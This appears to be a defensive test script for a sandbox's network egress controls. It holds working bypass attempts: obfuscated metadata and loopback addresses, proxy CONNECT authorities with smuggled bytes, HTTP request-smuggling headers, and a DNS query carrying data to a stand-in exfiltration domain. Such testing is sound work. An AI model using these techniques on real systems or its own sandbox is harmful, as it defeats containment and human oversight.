"""Tries to get past a run's way out, and says of each attempt what happened.

Usage: hostile.py TLS_PORT PLAIN_PORT. Each line is NAME: RESULT. A result that
begins with REACHED means that something was reached that must not be.
"""
import os
import socket
import ssl
import struct
import sys

TLS, PLAIN = int(sys.argv[1]), int(sys.argv[2])
PROXY = ("127.0.0.1", 3128)


def attempt(name, what, *args):
    try:
        result = what(*args)
    except OSError as e:
        result = "%s: %s" % (type(e).__name__, e)
    print("%s: %s" % (name, result), flush=True)


def dial(host, port):
    with socket.create_connection((host, port), 10):
        return "REACHED %s" % host


def exchange(sock, *pieces):
    """Sends pieces one after another and returns the first line that comes back
    of each, or that nothing does."""
    got = []
    sock.settimeout(10)
    for piece in pieces:
        try:
            sock.sendall(piece)
            data = sock.recv(65536)
        except OSError as e:
            data = type(e).__name__.encode()
        got.append(data.split(b"\r\n")[0].decode("latin-1") or "closed")
    return " then ".join(got)


def connect(authority):
    """Asks the explicit proxy for a tunnel, by any bytes."""
    if isinstance(authority, str):
        authority = authority.encode()
    with socket.create_connection(PROXY, 10) as s:
        line = exchange(s, b"CONNECT " + authority + b" HTTP/1.1\r\nHost: " + authority + b"\r\n\r\n")
        return ("REACHED " if " 200 " in line else "") + line


def tls(host, server_name, check=True):
    context = ssl.create_default_context(cafile="ca.pem")
    if not check:
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((host, TLS), 10) as s, context.wrap_socket(s, server_hostname=server_name) as t:
        return "REACHED %s by %s" % (host, server_name) if t.version() else ""


def plain(*pieces):
    """Sends pieces to the listed host's plain port, one connection for all."""
    with socket.create_connection(("listed.example.com", PLAIN), 10) as s:
        return exchange(s, *pieces)


def get(path, host="listed.example.com:%d" % PLAIN, more=b""):
    return b"GET " + path + b" HTTP/1.1\r\nHost: " + host.encode() + b"\r\n" + more + b"\r\n"


def upload(size):
    context = ssl.create_default_context(cafile="ca.pem")
    with socket.create_connection(("small.example.com", TLS), 10) as s, context.wrap_socket(s, server_hostname="small.example.com") as t:
        t.settimeout(10)
        t.sendall(b"POST /take HTTP/1.1\r\nHost: small.example.com:%d\r\nContent-Length: %d\r\n\r\n" % (TLS, size))
        sent = 0
        while sent < size:
            t.sendall(b"x" * 4096)
            sent += 4096
        answer = t.recv(100)
        return "REACHED with %d bytes" % size if answer.startswith(b"HTTP/1.1 200") else "cut"


# No address has a route, however it is written.
for number in ["192.0.2.1", "10.0.0.1", "169.254.169.254", "0xa9fea9fe", "2852039166", "0251.0376.0251.0376", "169.254.43518", "2001:db8::1", "::ffff:169.254.169.254", "fd00:ec2::254"]:
    attempt("dial " + number, dial, number, TLS)
for number in ["127.0.0.1", "2130706433", "0x7f.1", "127.1", "0177.0.0.1", "::1", "127.64.255.254"]:
    attempt("dial own " + number, dial, number, TLS)

# The proxy takes names, in one spelling.
for authority in ["127.0.0.1:%d", "2130706433:%d", "0x7f000001:%d", "0x7f.1:%d", "127.1:%d", "0177.0.0.1:%d", "[::1]:%d", "[::ffff:127.0.0.1]:%d", "[::1%%25lo]:%d",
                  "169.254.169.254:%d", "listed.example.com.:%d", ".listed.example.com:%d", "listed..example.com:%d", "user@listed.example.com:%d", "-listed.example.com:%d",
                  "listed.example.com:%d:%d" % (TLS, TLS) + "%.0s", "listed.example.com%%00.evil.example:%d", "listed.example.com"]:
    authority = authority % TLS if "%" in authority else authority
    attempt("name " + authority, connect, authority)
for authority in [b"listed.ex\xc3\xa4mple.com", b"listed.example.com\x00.evil", b"listed.example.com\t", b"listed\xe2\x80\xaeexample.com", b"listed.example.com/.evil", b"listed.example.com#", b"K\xe2\x84\xaa.example.com"]:
    attempt("bytes %r" % authority, connect, authority + b":%d" % TLS)
attempt("other port", connect, "listed.example.com:22")

# Names whose addresses are not public.
for host in ["public.example.com", "meta.example.com", "meta6.example.com", "embedded.example.com", "unspecified.example.com"]:
    attempt("answer " + host, tls, host, host)
attempt("turns first", lambda: "as it must, " + tls("turns.example.com", "turns.example.com").lower())
attempt("turns then", tls, "turns.example.com", "turns.example.com")

# Two names for one connection.
attempt("server name", tls, "listed.example.com", "other.example.com", False)
attempt("no server name", tls, "listed.example.com", None, False)
attempt("too much", upload, 1 << 20)

# What parsers disagree on, in plain HTTP.
attempt("first request", plain, get(b"/hello"), get(b"/hello", "other.example.com:%d" % PLAIN))
for name, head in {
    "two hosts": get(b"/hello", more=b"Host: other.example.com\r\n"),
    "length and chunks": b"POST /take HTTP/1.1\r\nHost: listed.example.com:%d\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % PLAIN,
    "two lengths": b"POST /take HTTP/1.1\r\nHost: listed.example.com:%d\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcde" % PLAIN,
    "folded": get(b"/hello", more=b"X: a\r\n b\r\n"),
    "bare line feed": get(b"/hello", more=b"X: a\nY: b\r\n"),
    "space before colon": get(b"/hello", more=b"Content-Length : 5\r\n"),
    "two slashes": get(b"//other.example.com/hello"),
    "h2c": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "upgrade to h2c": get(b"/hello", more=b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"),
    "absolute": get(b"http://other.example.com:%d/hello" % PLAIN),
}.items():
    attempt(name, plain, head)

# Another run's way out, and the engine's.
print("sockets: %s" % " ".join(sorted(os.listdir("/run/countersign"))))

# A look-up that carries data.
query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"\x04data\x05exfil\x07example\x03net\x00" + struct.pack("!2H", 16, 1)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(10)
    s.sendto(query, ("127.0.0.1", 53))
    attempt("look-up", lambda: "%d answers" % struct.unpack("!6H", s.recv(512)[:12])[3])
